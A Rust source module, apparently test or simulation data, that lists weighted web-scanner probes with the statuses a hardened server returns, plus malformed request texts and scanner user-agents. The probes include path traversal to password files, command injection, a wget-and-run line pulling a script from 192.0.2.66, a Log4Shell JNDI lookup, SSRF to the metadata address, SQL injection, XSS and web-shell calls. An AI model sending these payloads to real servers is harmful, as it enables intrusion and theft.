//! What scanners ask for. Made up after what every web server's log holds, a few for each class of attack.

/// A probe's method, target, and the statuses that a hardened server gives it.
pub(super) type Probe = (&'static str, &'static str, u16);

/// By how common they are.
pub(super) const PROBES: &[(u32, Probe)] = &[
    // Secrets and configuration.
    (30, ("GET", "/.env", 404)),
    (12, ("GET", "/.git/config", 403)),
    (8, ("GET", "/.aws/credentials", 404)),
    (8, ("GET", "/wp-config.php.bak", 404)),
    (6, ("GET", "/phpinfo.php", 404)),
    (4, ("GET", "/config.json", 404)),
    (4, ("GET", "/actuator/env", 404)),
    // Logins.
    (20, ("POST", "/wp-login.php", 404)),
    (14, ("POST", "/xmlrpc.php", 405)),
    (6, ("POST", "/admin/login", 401)),
    (4, ("GET", "/phpmyadmin/index.php", 404)),
    // Paths that climb.
    (6, ("GET", "/static/..%2f..%2f..%2fetc/passwd", 400)),
    (6, ("GET", "/cgi-bin/.%2e/.%2e/.%2e/.%2e/bin/sh", 400)),
    (4, ("GET", "/download?file=../../../../etc/shadow", 404)),
    // Commands.
    (8, ("POST", "/cgi-bin/luci/;stok=/locale?form=country&operation=write&country=$(id)", 404)),
    (6, ("GET", "/shell?cd+/tmp;rm+-rf+*;wget+http://192.0.2.66/m.sh;sh+m.sh", 404)),
    (5, ("POST", "/vendor/phpunit/phpunit/src/Util/PHP/eval-stdin.php", 404)),
    // Named holes.
    (6, ("GET", "/owa/auth/x.js", 404)),
    (5, ("GET", "/solr/admin/info/system?wt=json", 404)),
    (5, ("GET", "/_ignition/health-check", 404)),
    (4, ("GET", "/remote/fgt_lang?lang=/../../../..//////////dev/cmdb/sslvpn_websession", 404)),
    // Values that are code.
    (6, ("GET", "/products?id=1%27%20OR%20%271%27=%271", 403)),
    (5, ("GET", "/search?q=1+UNION+SELECT+username,password+FROM+users--", 403)),
    (5, ("GET", "/search?q=%3Cscript%3Ealert(1)%3C/script%3E", 403)),
    (3, ("GET", "/fetch?url=http://169.254.169.254/latest/meta-data/", 403)),
    (3, ("GET", "/index.php?page=php://filter/convert.base64-encode/resource=config", 404)),
    (4, ("GET", "/?x=${jndi:ldap://192.0.2.66:1389/a}", 403)),
    (4, ("GET", "/uploads/c99.php?cmd=id", 404)),
    (3, ("PUT", "/shell.jsp", 405)),
    (2, ("DELETE", "/uploads/index.html", 405)),
    (2, ("PROPFIND", "/", 405)),
    (2, ("TRACE", "/", 405)),
    (2, ("CONNECT", "example.com:443", 400)),
];

/// Whole request texts that are no HTTP, as nginx escapes them; all are answered with 400.
pub(super) const GARBAGE: &[(u32, &str)] = &[
    (6, ""),
    (6, r"\x16\x03\x01\x00\xEE\x01\x00\x00\xEA\x03\x03\xC9\x1B\xC2\xC9"),
    (3, r"\x03\x00\x00/*\xE0\x00\x00\x00\x00\x00Cookie: mstshash=Administr"),
    (2, r"\x00\x0E8e\xF1\x9C\xA1\x22\x08\x00\x00\x00\x00\x00"),
    (2, "SSH-2.0-Go"),
    (1, "MGLNDD_192.0.2.10_443"),
    (1, "t3 12.1.2"),
];

/// Scanners that say so, and those that say nothing.
pub(super) const SCANNERS: &[&str] = &[
    "Mozilla/5.0 zgrab/0.x",
    "sqlmap/1.8.4#stable (https://sqlmap.org)",
    "Mozilla/5.00 (Nikto/2.5.0) (Evasions:None) (Test:Port Check)",
    "Nuclei - Open-source project (github.com/projectdiscovery/nuclei)",
    "masscan/1.3 (https://github.com/robertdavidgraham/masscan)",
    "python-requests/2.32.3",
    "Go-http-client/1.1",
    "curl/8.5.0",
    "-",
];
